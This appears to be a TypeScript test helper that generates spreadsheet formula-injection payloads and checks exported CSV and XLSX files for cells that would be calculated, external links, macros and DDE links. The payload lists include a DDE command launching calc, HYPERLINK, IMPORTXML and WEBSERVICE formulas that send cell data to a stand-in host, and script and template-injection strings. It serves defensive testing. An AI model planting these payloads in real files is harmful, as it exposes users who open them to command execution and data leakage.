import { inflateRawSync } from 'node:zlib'
import Papa from 'papaparse'

/** Characters that start a formula in spreadsheet programs, and prefixes that such programs skip. */
const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '−', '﹢', '﹣', '﹫']
const leads = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\u00A0',
  '\u200B',
  '\uFEFF',
  '"',
  '""',
  `'`,
  `''`,
  '\u202E',
  '\u0001',
]
const bodies = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.test?x="&A1,"ok")',
  'SUM(1;1)',
  'IMPORTXML("http://evil.test","//a")',
  'DDE("a";"b";"c")',
  'WEBSERVICE("http://evil.test")',
]
/** Texts after which a program starts a new cell: other separators, or line breaks inside a text. */
const breaks = ['a;', 'a\t', 'a,', 'a|', 'a\n', 'a\r\n', 'a\r', 'a";"', 'a","', 'a\n"', 'a; ', 'a;\u200B', `a;'`]

/** Texts that careless readers change, though no program calculates them. */
const fragile = [
  '0012',
  '1e5',
  '1,5',
  'TRUE',
  '2026-03-01',
  '#N/A',
  '#REF!',
  '_x0041_',
  '_x005F_x0041_',
  '_x000D_',
  '<script>alert(1)</script>',
  '&amp;<b>',
  ']]>',
  '{{7*7}}',
  '%s',
  '\\',
  `'`,
  `'plain`,
  '😀 👩‍👩‍👧‍👦',
  'مرحبا',
  'テスト',
  'two\nlines',
  'a\r\nb',
  '-',
  '=',
  '--',
  '- one\n- two',
  ' leading',
  'trailing ',
  '"quoted"',
  '""',
  'a"b',
  'x'.repeat(4_000),
  '=A'.repeat(500),
]

/** Returns texts that a spreadsheet would calculate, and others that must stay unchanged. */
export const formulaTexts = (): string[] => [
  ...new Set([
    ...leads.flatMap((lead) => signs.map((sign, at) => `${lead}${sign}${bodies[at % bodies.length] ?? ''}`)),
    ...bodies.map((body) => `=${body}`),
    ...breaks.flatMap((before) => ['=', '+', '-', '@', '＝'].map((sign) => `${before}${sign}1+1;b`)),
    ...fragile,
  ]),
]

const formulaStart =
  /^[\s"\u0000-\u0020\u007F-\u00A0\u00AD\u200B-\u200F\u202A-\u202E\u2060-\u206F\uFEFF]*[=+\-@＝＋－＠−﹢﹣﹫]|^[\t\r\n]/u

/** Returns a CSV's cells that some program calculates, split by every separator and line end. */
export function calculatedInCsv(bytes: Uint8Array): string[] {
  const text = Buffer.from(bytes)
    .toString('utf8')
    .replace(/^\uFEFF/, '')
  const parsed = Papa.parse<string[]>(text, { delimiter: ',' }).data.flat()
  const otherwise = text.split(/[;\t\r\n]/)
  return [...parsed, ...otherwise].filter((cell) => formulaStart.test(cell)).map((cell) => cell.slice(0, 80))
}

/** Returns a workbook's calculated cells: formulas, texts not typed as texts, external links. */
export function calculatedInXlsx(bytes: Uint8Array, isNumber: (column: string) => boolean): string[] {
  const entries = unzipped(Buffer.from(bytes))
  const outside = [...entries.keys()].filter((name) =>
    /externalLinks|connections|vbaProject|queryTables|macrosheets|embeddings|customXml/i.test(name),
  )
  const found = outside.map((name) => `the part ${name}`)
  for (const [name, xml] of entries) {
    if (/TargetMode="External"/.test(xml)) found.push(`${name} leads elsewhere`)
    if (/<definedName|<oleObject|<ddeLink/.test(xml)) found.push(`${name} holds a name or an object`)
    if (!/worksheets\/[^/]+\.xml$/.test(name)) continue
    for (const [cell, attributes = '', inner = ''] of xml.matchAll(/<c\b([^>]*?)(?:\/>|>([^]*?)<\/c>)/g)) {
      const column = /\br="([A-Z]+)\d+"/.exec(attributes)?.[1] ?? ''
      const type = /\bt="(\w+)"/.exec(attributes)?.[1] ?? 'n'
      if (/<f[\s>/]/.test(inner)) found.push(`a formula: ${cell.slice(0, 80)}`)
      else if (type === 'n' ? !isNumber(column) && inner !== '' : type !== 's' && type !== 'inlineStr')
        found.push(`of type ${type}: ${cell.slice(0, 80)}`)
    }
  }
  return found
}

/** Unzips the parts of a workbook without our workbook reader. */
export function unzipped(file: Buffer): Map<string, string> {
  let end = file.length - 22
  while (file.readUInt32LE(end) !== 0x06054b50) end--
  const parts = new Map<string, string>()
  for (let entry = 0, at = file.readUInt32LE(end + 16); entry < file.readUInt16LE(end + 10); entry++) {
    const [method, size, nameLength] = [
      file.readUInt16LE(at + 10),
      file.readUInt32LE(at + 20),
      file.readUInt16LE(at + 28),
    ]
    const [extra, comment, local] = [file.readUInt16LE(at + 30), file.readUInt16LE(at + 32), file.readUInt32LE(at + 42)]
    const start = local + 30 + file.readUInt16LE(local + 26) + file.readUInt16LE(local + 28)
    const bytes = file.subarray(start, start + size)
    parts.set(
      file.toString('utf8', at + 46, at + 46 + nameLength),
      (method === 0 ? bytes : inflateRawSync(bytes)).toString('utf8'),
    )
    at += 46 + nameLength + extra + comment
  }
  return parts
}
